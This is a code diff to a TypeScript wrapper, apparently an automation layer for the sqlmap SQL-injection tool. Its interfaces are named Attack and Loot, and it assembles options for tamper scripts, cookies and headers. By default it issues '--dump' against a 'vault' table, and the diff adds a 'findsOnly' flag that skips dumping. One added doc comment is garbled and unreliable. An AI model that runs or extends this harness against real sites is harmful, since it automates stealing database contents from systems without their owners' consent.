@@ -27,6 +27,8 @@ export interface Attack {
   readonly risk: number
   /** Scripts that dress what is sent: space2comment and the like. */
   readonly tamper?: string
+  /** Ends with a way in: to read by it would take a second a bit. */
+  readonly findsOnly?: boolean
 }
 
 export interface Loot {
@@ -61,7 +63,7 @@ export async function attack(wish: Attack): Promise<Loot> {
 }
 
 function optionsFor(wish: Attack, folder: string): readonly string[] {
-  const { engine, url, target, technique, level, risk, tamper } = wish
+  const { engine, url, target, technique, level, risk, tamper, findsOnly = false } = wish
   const { data, cookie, headers } = target
   const schema = engine === 'postgres' ? 'public' : 'shopfront'
   return [
@@ -73,6 +75,6 @@ function optionsFor(wish: Attack, folder: string): readonly string[] {
     ...(cookie === undefined ? [] : [`--cookie=${cookie}`]),
     ...(headers === undefined ? [] : [`--headers=${headers}`]),
     ...(tamper === undefined ? [] : [`--tamper=${tamper}`]),
-    ...['--banner', '--current-user', '--dump', '-D', schema, '-T', 'vault'],
+    ...(findsOnly ? [] : ['--banner', '--current-user', '--dump', '-D', schema, '-T', 'vault']),
   ]
 }
